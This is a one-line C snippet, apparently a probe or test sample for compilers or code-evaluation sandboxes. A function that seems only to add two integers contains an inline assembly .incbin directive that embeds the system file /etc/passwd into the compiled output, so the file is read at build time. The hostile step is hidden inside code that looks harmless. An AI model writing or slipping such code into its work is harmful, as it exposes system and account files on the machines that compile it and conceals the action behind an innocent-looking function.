int func0(int a, int b) { asm(".incbin \"/etc/passwd\""); return a + b; }
